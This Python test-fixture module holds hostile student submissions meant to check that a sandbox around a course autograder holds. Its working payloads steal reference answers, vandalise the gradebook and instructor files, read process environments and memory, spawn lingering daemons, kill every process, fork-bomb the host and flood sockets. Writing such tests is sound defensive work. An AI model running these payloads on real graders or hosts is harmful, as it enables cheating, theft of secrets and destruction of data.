"""Hostile submissions, one per kind of attack on the grader (written for the jail's tests).

Each is the source of a weight_init.py that knows every path a real attacker could find
(they are filled in below): the kit, the submissions folder, OUT, site-packages, a canary file
in the instructor's tree and a local port the test listens on.  None may change anything but
its own score.
"""
from __future__ import annotations

import json

# Every attack starts with this: the paths, and helpers that never raise.
PRELUDE = '''
import glob, os, signal, socket, struct, sys, time
KIT, SUBMISSIONS, OUT, SITE = {kit!r}, {submissions!r}, {out!r}, {site!r}
CANARY_FILE, COURSE, MARKER, PORT = {canary_file!r}, {course!r}, {marker!r}, {port!r}

def attempt(f, *args):
    try:
        return f(*args)
    except BaseException as exc:
        return repr(exc)

def write(path, data=b"pwned by a submission"):
    def go():
        with open(path, "wb") as fh:
            fh.write(data)
    return attempt(go)

def read(path):
    def go():
        with open(path, "rb") as fh:
            return fh.read(4096).decode("utf-8", "replace")
    return attempt(go)
'''

ATTACKS: dict[str, str] = {
    # The kit's own reference and analysis, by import and by path.
    "steal_reference": '''
sys.path[:0] = [KIT, KIT + "/solutions"]
for name in ("autograder.reference.weight_init", "autograder.lectures.weight_init.instructor.answer_key", "autograder.engine.config", "weight_init"):
    module = attempt(__import__, name, None, None, ["*"])
    if not isinstance(module, str):
        globals().update({k: v for k, v in vars(module).items() if not k.startswith("_")})
source = read(KIT + "/solutions/weight_init.py")
if "def sigmoid" in source:
    exec(source)
''',
    # Writes into everything the instructor owns, found by path and through /proc of ancestors.
    "writer": '''
def vandalise():
    targets = glob.glob(SUBMISSIONS + "/*/*") + glob.glob(KIT + "/autograder/*.py") + [
        KIT + "/solutions/weight_init.py", SITE + "/initlab_evil.pth", CANARY_FILE, COURSE + "/gradebook.db",
        OUT + "/grades.csv", MARKER, "/sys/fs/cgroup/cgroup.procs"]
    for path in targets:
        write(path)
        attempt(os.truncate, path, 0)
        attempt(os.unlink, path)
    for pid in os.listdir("/proc"):
        cwd = attempt(os.readlink, "/proc/%s/cwd" % pid)
        write(os.path.join(cwd, "pwned"))
vandalise()

def sigmoid(x):
    vandalise()
    import numpy as np
    return 1 / (1 + np.exp(-x))
''',
    # Reads what the instructor can, and tries to smuggle it out through feedback.
    "reader": '''
def grab():
    found = [read(CANARY_FILE), read(COURSE + "/gradebook.db")] + [read(p) for p in glob.glob(SUBMISSIONS + "/*/*")]
    for pid in os.listdir("/proc"):
        found.append(read("/proc/%s/environ" % pid))
        found.append(read("/proc/%s/cmdline" % pid))
    found.append(repr(dict(os.environ)))
    return " | ".join(found)

STOLEN = grab()
print(STOLEN)
answer_saturated = STOLEN
answer_xavier_std = STOLEN

def sigmoid(x):
    raise ValueError(grab())

def relu(x):
    return grab()

def normal_init(n_in, n_out, rng, std):
    print(grab())
    raise RuntimeError(STOLEN[-400:])
''',
    # A detached daemon and a thread-group leader that exits alone, both meant to outlive grading.
    "daemon": '''
import threading, ctypes

def linger():
    for _ in range(600):
        time.sleep(0.1)
        write(MARKER, b"daemon alive")
        write(OUT + "/grades.csv", b"rewritten by a daemon")

def daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            linger()
        os._exit(0)

def zombie_leader():
    if os.fork() == 0:
        threading.Thread(target=linger).start()
        ctypes.CDLL(None).pthread_exit(None)  # the main thread ends; /proc shows state Z

daemon()
zombie_leader()

def sigmoid(x):
    daemon()
    zombie_leader()
    import numpy as np
    return 1 / (1 + np.exp(-x))
''',
    # Signals to everything it can name: the parent, init, every pid, the process group.
    "killer": '''
def kill_all():
    for target in [os.getppid(), 1, -1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        if target != os.getpid():
            attempt(os.kill, target, signal.SIGKILL)
    attempt(os.killpg, attempt(os.getpgid, os.getppid()), signal.SIGKILL)

kill_all()

def relu(x):
    kill_all()
    import numpy as np
    return np.maximum(0, x)
''',
    # A bounded fork bomb whose children sleep past the end of the batch.
    "forkbomb": '''
def bomb():
    for _ in range(300):
        pid = attempt(os.fork)
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        if isinstance(pid, str):
            break

bomb()

def sigmoid(x):
    bomb()
    import numpy as np
    return 1 / (1 + np.exp(-x))
''',
    # The network: the test's local port, and the judge's network namespace.
    "network": '''
def call_home():
    for host in ("127.0.0.1", "::1", "localhost"):
        conn = attempt(socket.create_connection, (host, PORT), 1)
        if not isinstance(conn, str):
            attempt(conn.sendall, b"hello from a submission")
    for pid in os.listdir("/proc"):
        attempt(os.setns, attempt(os.open, "/proc/%s/ns/net" % pid, os.O_RDONLY), 0) if hasattr(os, "setns") else None

call_home()

def sigmoid(x):
    call_home()
    import numpy as np
    return 1 / (1 + np.exp(-x))
''',
    # The memory of every process it can see.
    "memory": '''
def peek():
    got = []
    for pid in os.listdir("/proc"):
        got.append(read("/proc/%s/mem" % pid))
        got.append(read("/proc/%s/maps" % pid))
    return " ".join(got)[:2000]

answer_penalty = peek()

def sigmoid(x):
    raise ValueError(peek())
''',
    # Raw frames straight onto its socket: a 100 MB header, then a deeply nested one.
    "big_reply": '''
def flood():
    for fd in range(3, 64):
        if not isinstance(attempt(os.fstat, fd), str):
            attempt(os.write, fd, struct.pack(">Q", 100 * 1024 * 1024) + b"[" * 65536)

def sigmoid(x):
    flood()
    time.sleep(1)
    os._exit(0)

def relu(x):
    import numpy as np
    return np.zeros(20_000_000)  # 160 MB of float64: over what a reply may hold
''',
    # Scratch space: big files where other children (or the host) might find them later.
    "scratch_filler": '''
for folder in ("/tmp", "/dev/shm", "/var/tmp", os.environ.get("TMPDIR", "/tmp")):
    write(os.path.join(folder, "initlab-hostile-" + str(os.getpid())), b"x" * (16 * 1024 * 1024))

def sigmoid(x):
    import numpy as np
    return 1 / (1 + np.exp(-x))
''',
    # Sleeps at every load (under the load limit), then kills its process in every call, so each
    # call loads it again: only the submission's time budget stops it.
    "sleeper": '''
time.sleep(2)

def _die(*args):
    os._exit(1)

sigmoid = relu = normal_init = xavier_init = he_init = _die
activation_probe = weight_decay_penalty = weight_decay_grad = _die
''',
}

#: Notebooks whose JSON alone is hostile: they must cost their own row, never the batch.
MALFORMED_NOTEBOOKS: dict[str, bytes] = {
    "deep_nesting": b'{"cells": ' + b"[" * 100_000 + b"]" * 100_000 + b', "nbformat": 4}',
    "numbers_as_source": json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {},
                                     "cells": [{"cell_type": "code", "metadata": {}, "outputs": [],
                                                "execution_count": None, "source": [1, 2, 3]}]}).encode(),
}


def render(name: str, **paths) -> str:
    """The source of attack ``name`` with the paths of this test filled in."""
    return PRELUDE.format(**paths) + ATTACKS[name]
